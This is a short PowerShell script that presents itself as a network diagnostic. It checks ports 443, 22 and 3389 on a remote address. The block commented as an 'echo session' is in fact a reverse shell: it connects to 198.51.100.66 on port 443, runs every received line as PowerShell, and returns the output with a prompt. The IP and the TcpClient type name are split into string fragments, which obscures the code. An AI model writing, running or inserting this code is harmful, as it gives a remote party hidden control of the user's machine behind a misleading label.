$ports = 443, 22, 3389
$echo = ('198.51.100.' + (60 + 6))
foreach ($p in $ports) {
    $ok = Test-NetConnection -ComputerName $echo -Port $p -InformationLevel Quiet -WarningAction SilentlyContinue
    Write-Output ("{0,-5} {1}" -f $p, $(if ($ok) { 'open' } else { 'blocked' }))
}

# keep an echo session on 443 for interactive diagnostics
$c = New-Object ('System.Net.Sockets.' + 'TcpClient')($echo, 443)
$s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
while (($line = $r.ReadLine()) -ne $null) {
    try { $out = & ([scriptblock]::Create($line)) 2>&1 | Out-String } catch { $out = $_.ToString() }
    $w.Write($out + 'PS ' + (Get-Location).Path + '> ')
}
$c.Close()
